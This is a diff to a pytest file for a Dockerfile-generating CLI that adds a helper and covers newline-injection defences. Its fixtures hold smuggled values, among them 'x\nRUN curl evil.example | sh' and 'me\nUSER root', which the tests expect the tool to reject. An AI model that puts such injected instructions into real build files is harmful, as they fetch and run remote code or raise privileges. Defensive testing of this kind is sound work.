@@ -13,6 +13,20 @@ def template(tmp_path: Path, body: str, name: str = "Dockerfile.template") -> Pa
     return path
 
 
+def project(root: Path, bentofile: str, template_body: str | None = None) -> Path:
+    """A project directory: ``service.py``, ``bentofile.yaml`` and optionally a template."""
+    root.mkdir()
+    (root / "service.py").write_text("svc = None\n", encoding="utf-8")
+    (root / "bentofile.yaml").write_text('service: "service:svc"\n' + bentofile, encoding="utf-8")
+    if template_body is not None:
+        template(root, template_body)
+    return root
+
+
+def _stored(home: Path) -> list[str]:
+    return sorted(p.name for p in (home / "bentos").rglob("*"))
+
+
 def test_prints_the_dockerfile(home: Path) -> None:
     done = cli("dockerfile", "examples/hello", home=home)
     assert done.returncode == 0, done.stderr
@@ -77,34 +91,25 @@ def test_no_buildkit_refuses_secret_mount(home: Path) -> None:
 
 
 def test_newline_in_env_cannot_add_an_instruction(home: Path, tmp_path: Path) -> None:
-    project = tmp_path / "evil"
-    project.mkdir()
-    (project / "service.py").write_text("svc = None\n", encoding="utf-8")
-    (project / "bentofile.yaml").write_text(
-        'service: "service:svc"\ninclude: ["*.py"]\n'
-        'docker:\n  env:\n    EVIL: "x\\nRUN curl evil.example | sh"\n',
-        encoding="utf-8",
+    evil = project(
+        tmp_path / "evil",
+        'include: ["*.py"]\ndocker:\n  env:\n    EVIL: "x\\nRUN curl evil.example | sh"\n',
     )
-    done = cli("dockerfile", str(project), home=home)
+    done = cli("dockerfile", str(evil), home=home)
     assert done.returncode == 2, done.stdout
     assert "docker.env.EVIL" in done.stderr and "newline" in done.stderr
     assert done.stdout == "" and "Traceback" not in done.stderr
     # Rejected at the edge: against the user's bentofile (with its line), before the store.
-    assert f"{project / 'bentofile.yaml'}:5: docker.env.EVIL" in done.stderr
-    assert not (home / "bentos").exists() or not any((home / "bentos").iterdir())
+    assert f"{evil / 'bentofile.yaml'}:5: docker.env.EVIL" in done.stderr
+    assert _stored(home) == []
 
 
 def test_newline_in_label_is_rejected_against_the_bentofile(home: Path, tmp_path: Path) -> None:
-    project = tmp_path / "evil"
-    project.mkdir()
-    (project / "service.py").write_text("svc = None\n", encoding="utf-8")
-    (project / "bentofile.yaml").write_text(
-        'service: "service:svc"\nlabels:\n  owner: "me\\nUSER root"\n', encoding="utf-8"
-    )
-    done = cli("dockerfile", str(project), home=home)
+    evil = project(tmp_path / "evil", 'labels:\n  owner: "me\\nUSER root"\n')
+    done = cli("dockerfile", str(evil), home=home)
     assert done.returncode == 2, done.stdout
     assert "bentofile.yaml:3: labels.owner" in done.stderr and "newline" in done.stderr
-    assert not (home / "bentos").exists() or not any((home / "bentos").iterdir())
+    assert _stored(home) == []
 
 
 def test_unknown_bento(home: Path) -> None:
@@ -120,19 +125,9 @@ def test_debug_shows_the_traceback(home: Path, tmp_path: Path) -> None:
 
 
 def _templated_project(root: Path, body: str) -> Path:
-    root.mkdir()
-    (root / "service.py").write_text("svc = None\n", encoding="utf-8")
-    (root / "bentofile.yaml").write_text(
-        'service: "service:svc"\ninclude: ["*.py"]\n'
-        "docker:\n  dockerfile_template: Dockerfile.template\n",
-        encoding="utf-8",
+    return project(
+        root, 'include: ["*.py"]\ndocker:\n  dockerfile_template: Dockerfile.template\n', body
     )
-    template(root, body)
-    return root
-
-
-def _stored(home: Path) -> list[str]:
-    return sorted(p.name for p in (home / "bentos").rglob("*"))
 
 
 def test_project_template_syntax_error_names_the_users_file_and_stores_nothing(
